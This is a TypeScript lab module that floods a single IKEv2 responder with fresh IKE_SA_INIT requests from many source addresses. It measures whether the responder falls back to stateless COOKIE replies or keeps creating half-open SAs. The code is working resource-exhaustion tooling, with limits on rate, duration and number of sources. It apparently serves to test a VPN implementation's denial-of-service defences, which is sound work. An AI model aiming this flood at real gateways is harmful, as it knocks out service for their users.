// A bounded half-open flood for the lab (RFC 7296 §2.6 resource exhaustion): crafted IKE_SA_INIT
// requests with a fresh random SPIi, Ni and KE each, sent from many source addresses at a fixed
// rate, to one responder. The flooder never continues an exchange (it holds no DH secret for its KE),
// so every request it gets answered without a COOKIE cost the responder a half-open SA. Replies are
// counted by kind: COOKIE notifies (§2.6) versus full IKE_SA_INIT responses (SA, KE, Nonce).
// Lab use only: the caller picks sources inside a namespace it made and a target in the lab.
import { randomFillSync } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import { isIP } from 'node:net';
import {
  ExchangeType,
  HeaderFlag,
  NotifyType,
  decodeMessage,
  encodeMessage,
  type Payload,
} from '../../src/codec/index.ts';
import { parseProposals } from '../../src/ike/proposal-string.ts';
import { proposalToWire } from '../../src/ike/wire.ts';
import { LabError } from '../errors.ts';

/** A request template and where its per-request random fields lie. */
export interface FloodTemplate {
  readonly bytes: Uint8Array;
  /** [offset, length] of SPIi, the KE data and the Nonce data. */
  readonly random: readonly (readonly [number, number])[];
}

/** x25519 is 31 (IANA "Transform Type 4"); its public value is 32 octets (RFC 8031 §2). */
const X25519 = 31;

/** An IKE_SA_INIT request as an initiator sends it (RFC 7296 §1.2: HDR, SAi1, KEi, Ni). */
export function floodTemplate(proposal = 'aes256gcm16-prfsha256-x25519'): FloodTemplate {
  const ke = new Uint8Array(32).fill(0xa5);
  const nonce = new Uint8Array(32).fill(0x5a);
  const payloads: Payload[] = [
    { kind: 'SA', proposals: parseProposals(proposal, 'ike').map(proposalToWire) },
    { kind: 'KE', group: X25519, data: ke },
    { kind: 'NONCE', data: nonce },
  ];
  const bytes = encodeMessage({
    header: {
      spiI: new Uint8Array(8).fill(1),
      spiR: new Uint8Array(8),
      exchangeType: ExchangeType.IKE_SA_INIT,
      flags: HeaderFlag.INITIATOR,
      messageId: 0,
    },
    payloads,
  });
  const find = (needle: Uint8Array): number => Buffer.from(bytes).indexOf(Buffer.from(needle));
  const keAt = find(ke);
  const nonceAt = find(nonce);
  if (keAt < 0 || nonceAt < 0) throw new LabError('LAB_BUILD', 'flood template: KE or Nonce not found');
  return {
    bytes,
    random: [
      [0, 8],
      [keAt, 32],
      [nonceAt, 32],
    ],
  };
}

/** A fresh request from the template: new SPIi, KE and Nonce (no two requests alike). */
export function freshRequest(t: FloodTemplate): Uint8Array {
  const out = t.bytes.slice();
  for (const [off, len] of t.random) randomFillSync(out, off, len);
  return out;
}

export type ReplyKind = 'cookie' | 'sa-init' | 'other';

/** What the responder answered: a COOKIE (stateless, §2.6), a full SA_INIT response, or else. */
export function classifyReply(bytes: Uint8Array): ReplyKind {
  try {
    const m = decodeMessage(bytes);
    if (m.header.exchangeType !== ExchangeType.IKE_SA_INIT) return 'other';
    if (m.payloads.some((p) => p.kind === 'NOTIFY' && p.notifyType === NotifyType.COOKIE)) return 'cookie';
    if (m.payloads.some((p) => p.kind === 'SA')) return 'sa-init';
    return 'other';
  } catch {
    return 'other';
  }
}

export interface FloodOptions {
  readonly target: string;
  readonly port?: number;
  /** Source addresses (local to the flooder, e.g. an AnyIP `local` route); one socket each. */
  readonly sources: readonly string[];
  /** Requests per second. */
  readonly rate: number;
  readonly durationMs: number;
  /** Hard cap on requests sent (default rate * duration). */
  readonly maxPackets?: number;
  /** Wait this long for late replies after the last request (default 500 ms). */
  readonly drainMs?: number;
  /** Called about every second with the progress so far. */
  readonly onProgress?: (s: FloodStats) => void;
}

export interface FloodStats {
  readonly sent: number;
  readonly sendErrors: number;
  readonly sources: number;
  readonly replies: Readonly<Record<ReplyKind, number>>;
  readonly elapsedMs: number;
  /** sent / elapsed seconds. */
  readonly rate: number;
}

const MAX_RATE = 100_000;
const MAX_DURATION_MS = 120_000;
const MAX_SOURCES = 4096;

function check(o: FloodOptions): void {
  if (isIP(o.target) === 0) throw new LabError('LAB_TOPOLOGY', `flood target is not an address: ${o.target}`);
  if (o.sources.length === 0 || o.sources.length > MAX_SOURCES)
    throw new LabError('LAB_TOPOLOGY', `flood needs 1..${MAX_SOURCES} sources, got ${o.sources.length}`);
  const bad = o.sources.find((s) => isIP(s) !== isIP(o.target));
  if (bad !== undefined)
    throw new LabError('LAB_TOPOLOGY', `flood source ${bad} is not of the target's address family`);
  if (!(o.rate > 0 && o.rate <= MAX_RATE))
    throw new LabError('LAB_TOPOLOGY', `flood rate must be 1..${MAX_RATE}/s, got ${o.rate}`);
  if (!(o.durationMs > 0 && o.durationMs <= MAX_DURATION_MS))
    throw new LabError(
      'LAB_TOPOLOGY',
      `flood duration must be 1..${MAX_DURATION_MS} ms, got ${o.durationMs}`,
    );
}

function bind(address: string, onReply: (b: Buffer) => void): Promise<Socket> {
  const s = createSocket({ type: isIP(address) === 6 ? 'udp6' : 'udp4' });
  s.on('message', onReply);
  return new Promise((resolve, reject) => {
    s.once('error', (e) => reject(new LabError('LAB_BUILD', `flood: cannot bind ${address}: ${e.message}`)));
    s.bind(0, address, () => resolve(s));
  });
}

/** Sends the flood (paced every 10 ms), then waits drainMs for replies. Bounded in count and time. */
export async function runFlood(o: FloodOptions): Promise<FloodStats> {
  check(o);
  const port = o.port ?? 500;
  const max = Math.min(o.maxPackets ?? Infinity, Math.ceil((o.rate * o.durationMs) / 1000));
  const replies: Record<ReplyKind, number> = { cookie: 0, 'sa-init': 0, other: 0 };
  const onReply = (b: Buffer) => void replies[classifyReply(b)]++;
  const sockets: Socket[] = [];
  try {
    for (const a of o.sources) sockets.push(await bind(a, onReply));
    const tpl = floodTemplate();
    let sent = 0;
    let sendErrors = 0;
    const started = Date.now();
    const stats = (): FloodStats => {
      const elapsedMs = Math.max(1, Date.now() - started);
      return {
        sent,
        sendErrors,
        sources: sockets.length,
        replies: { ...replies },
        elapsedMs,
        rate: Math.round((sent * 1000) / elapsedMs),
      };
    };
    let lastProgress = started;
    while (sent < max && Date.now() - started < o.durationMs + 1000) {
      const due = Math.min(max, Math.floor(((Date.now() - started) * o.rate) / 1000));
      for (; sent < due; sent++)
        sockets[sent % sockets.length]!.send(freshRequest(tpl), port, o.target, (e) => {
          if (e) sendErrors++;
        });
      if (o.onProgress && Date.now() - lastProgress >= 1000) {
        lastProgress = Date.now();
        o.onProgress(stats());
      }
      await new Promise((r) => setTimeout(r, 10));
    }
    const done = stats();
    await new Promise((r) => setTimeout(r, o.drainMs ?? 500));
    return { ...done, replies: { ...replies }, sendErrors };
  } finally {
    for (const s of sockets) s.close();
  }
}

/** `count` addresses of an IPv4 /24 (host parts 1..254, cycling over several /24s if given). */
export function floodSources(prefixes24: readonly string[], count: number): string[] {
  const out: string[] = [];
  for (let i = 0; out.length < count && i < 254 * prefixes24.length; i++) {
    const p = prefixes24[i % prefixes24.length]!;
    const m = /^(\d+\.\d+\.\d+)\.0\/24$/.exec(p);
    if (!m) throw new LabError('LAB_TOPOLOGY', `flood source prefix must be a.b.c.0/24: ${p}`);
    out.push(`${m[1]}.${1 + Math.floor(i / prefixes24.length)}`);
  }
  return out;
}
